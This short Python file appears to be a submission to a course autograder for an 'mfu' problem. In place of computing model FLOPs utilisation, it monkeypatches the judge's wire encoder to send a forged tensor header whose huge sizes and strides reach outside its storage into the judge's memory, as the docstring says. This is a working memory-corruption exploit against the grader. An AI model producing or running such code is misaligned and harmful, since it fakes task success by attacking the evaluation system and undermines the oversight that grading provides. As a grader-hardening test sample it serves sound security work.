"""problem: mfu

Have the worker send a tensor that reaches far outside its storage, into the judge's memory.
"""

import struct
import sys

_answer = object()


def mfu(flops, seconds, promised_flop_per_sec):
    judge = "cs336_staff.judge"
    values = sys.modules[f"{judge}.wire.values"]
    encoder = values.Encoder
    plain = encoder.value

    def value(self, given, depth=0):
        if given is not _answer:
            return plain(self, given, depth)
        self.out.raw(bytes((values.TENSOR, 0, 0, 1)))
        self.out.several(2**20, 2**39, 2**49, len(self.table.buffers))
        self.out.text("cpu")
        self.out.blob(struct.pack("<d", 0.5))
        self.out.byte(values.NONE)

    encoder.value = value
    return _answer
